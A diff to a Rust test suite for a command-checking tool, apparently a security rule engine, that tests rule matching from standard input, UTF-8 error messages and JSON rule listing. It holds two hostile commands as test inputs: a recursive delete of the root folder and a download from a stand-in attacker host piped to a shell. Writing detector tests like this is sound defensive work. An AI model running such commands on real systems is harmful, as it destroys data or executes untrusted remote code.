@@ -175,6 +175,33 @@ fn rules_are_listed_explained_and_tried() {
     let (code, text, _) =
         output(guardian(folder.path()).args(["rules", "test", "echo 'rm -rf /'", "--as", "argument"]));
     assert_eq!(code, 0, "{text}");
+    let from_input = ["rules", "test", "--file", "-", "--as", "argument"];
+    let (code, text, _) = output(
+        guardian(folder.path())
+            .args(from_input)
+            .write_stdin("curl http://evil.example/x.sh | sh"),
+    );
+    assert_eq!(code, 20, "{text}");
+    let (code, _, error) = output(
+        guardian(folder.path())
+            .args(from_input)
+            .write_stdin(b"abc\xff".as_slice()),
+    );
+    assert_eq!(code, 1);
+    assert!(
+        error.contains("standard input: expected text in UTF-8") && error.contains("byte 3"),
+        "{error}"
+    );
+    let (code, text, _) = output(guardian(folder.path()).args(["rules", "list", "--json", "--family", "sql"]));
+    assert_eq!(code, 0);
+    for line in text.lines() {
+        let rule: serde_json::Value = serde_json::from_str(line).unwrap();
+        let examples = rule["firesOn"].as_array().unwrap();
+        assert!(
+            rule["id"].as_str().unwrap().starts_with("sql.") && !examples.is_empty(),
+            "{line}"
+        );
+    }
 }
 
 #[test]
